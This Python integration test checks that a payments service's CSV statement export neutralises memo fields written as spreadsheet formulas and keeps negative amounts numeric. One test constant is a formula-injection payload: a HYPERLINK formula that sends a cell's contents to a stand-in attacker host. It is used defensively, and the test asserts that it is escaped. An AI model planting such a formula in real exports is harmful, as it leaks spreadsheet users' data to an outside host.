"""A statement as CSV opens in a spreadsheet as data: a memo written as a formula is
neutralised, and amounts, negative ones included, stay numbers (shared/spreadsheets.py)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import httpx
import pytest
from sqlalchemy import insert

from services.payments import store
from services.payments.settings import Settings
from shared.db import Database
from tests.integration.payments.support import (
    COMMISSIONER,
    FEDERATION,
    HUB,
    bearer,
    client,
    db,
    payments_url,
)

pytestmark = pytest.mark.integration
__all__ = ["client", "db", "payments_url"]  # fixtures

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Details")'


async def test_a_statement_csv_quotes_a_formula_memo_and_keeps_a_negative_amount_a_number(
    client: httpx.AsyncClient, db: Database
) -> None:
    now = datetime(2026, 11, 2, 9, tzinfo=UTC)
    account, other = f"federation:{FEDERATION}", f"commissioner:{COMMISSIONER}"
    async with db.sessions() as session, session.begin():
        await session.execute(
            insert(store.accounts),
            [
                {"code": account, "kind": "federation", "ods": FEDERATION, "created_at": now},
                {"code": other, "kind": "commissioner", "ods": COMMISSIONER, "created_at": now},
            ],
        )
        await session.execute(
            insert(store.ledger_transactions).values(
                id="tx-1",
                kind="adjustment",
                contract_id=HUB,
                period="2026-10",
                basis="tariff",
                description="an adjustment",
                posted_at=now,
            )
        )
        await session.execute(
            insert(store.postings),
            [
                {"transaction_id": "tx-1", "account": account, "amount_pence": -1500,
                 "consultations": None, "memo": HYPERLINK, "posted_at": now},
                {"transaction_id": "tx-1", "account": account, "amount_pence": 250,
                 "consultations": 3, "memo": "-2+3", "posted_at": now},
                # The other side, so that the transaction balances as the ledger requires.
                {"transaction_id": "tx-1", "account": other, "amount_pence": 1250,
                 "consultations": None, "memo": "balance", "posted_at": now},
            ],
        )  # fmt: skip
    ops = {"authorization": bearer(Settings(), "ops", "X24")}
    response = await client.get(
        f"/statements/{FEDERATION}/2026-10", params={"format": "csv"}, headers=ops
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    *lines, total = csv.DictReader(io.StringIO(response.text))
    assert [(r["memo"], r["amount_pence"], r["consultations"]) for r in lines] == [
        ("'" + HYPERLINK, "-1500", ""),
        ("'-2+3", "250", "3"),
    ]
    assert (total["transaction_id"], total["amount_pence"]) == ("total", "-1250")
    # Written unquoted, so a spreadsheet reads the amount as the number -1500.
    assert ",-1500," in response.text
